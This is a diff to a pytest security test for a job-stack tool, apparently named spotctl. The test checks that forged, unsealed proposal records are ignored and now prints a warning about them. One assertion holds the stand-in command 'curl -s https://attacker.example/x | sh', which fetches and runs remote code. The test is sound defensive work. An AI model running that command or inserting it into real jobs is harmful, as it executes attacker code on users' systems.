@@ -271,7 +271,7 @@ def test_a_complete_killed_during_its_update_is_finished_by_complete_again(proje
 
 
 @pytest.mark.parametrize("sealed", [False, True])
-def test_only_a_proposal_this_users_spotctl_sealed_is_ever_undone(project, sealed):
+def test_only_a_proposal_this_users_spotctl_sealed_is_ever_undone(project, sealed, capsys):
     """A proposal record is undone into the stack file when its process is gone, so a forged one (a
     commit can carry a file into stacks/.spotctl/) would write its "before" values into a job: a
     command of the attacker's choosing. Unsealed, it is ignored; sealed (ours), it is undone."""
@@ -286,9 +286,11 @@ def test_only_a_proposal_this_users_spotctl_sealed_is_ever_undone(project, seale
     else:
         stackfile.proposal_path(path).parent.mkdir(exist_ok=True)
         stackfile.proposal_path(path).write_text(json.dumps({"record": record}) + "\n")
+    stackfile._WARNED.clear()
     stackfile.update_job(path, "bert-eval", lambda current, written: {"state": "preempted"})  # takes the lock
     after = stackfile.load(ref).job("vit-finetune").command
     assert after == ("curl -s https://attacker.example/x | sh" if sealed else command)
+    assert ("not a record this user's spotctl sealed" in capsys.readouterr().err) is not sealed
     assert stackfile.load(ref).job("bert-eval").state.value == "preempted"
 
 
